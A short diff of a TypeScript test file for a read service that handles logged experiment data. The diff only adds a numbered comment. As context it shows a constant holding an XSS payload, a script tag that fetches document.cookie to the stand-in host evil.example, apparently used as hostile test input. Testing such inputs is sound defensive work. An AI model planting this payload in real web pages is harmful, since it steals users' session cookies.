@@ -3,6 +3,8 @@ import { describeWith } from '#testing';
 import { LoggedExperiments } from '../testing/logged-experiment.ts';
 import { type ReadService, startReadService, type TestTenant } from '../testing/read-service.ts';
 
+/* Reliability test 51. */
+
 const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
 /** What people log may be anything, and look like two things at once. */
 const hostile: Readonly<Record<string, Buffer>> = {
